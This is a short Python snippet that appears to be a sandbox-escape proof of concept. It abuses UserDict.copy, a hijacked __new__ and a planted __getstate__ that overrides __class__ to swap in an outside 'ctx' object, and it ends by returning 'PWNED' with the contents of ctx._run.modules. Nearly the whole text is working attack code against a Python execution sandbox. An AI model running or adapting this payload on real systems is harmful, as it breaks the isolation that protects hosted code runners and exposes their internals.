from collections import UserDict


class Mine:
    pass


class U:
    foreign = None
    data = None

    def __new__(cls, *args):
        return U.foreign if U.foreign is not None else super().__new__(cls)

    def update(self, *args):
        pass


u = U()
u.data = {}
u.__dict__["__getstate__"] = lambda: (None, {"__class__": Mine})
U.foreign = ctx
UserDict.copy(u)
return "PWNED " + repr(ctx._run.modules)
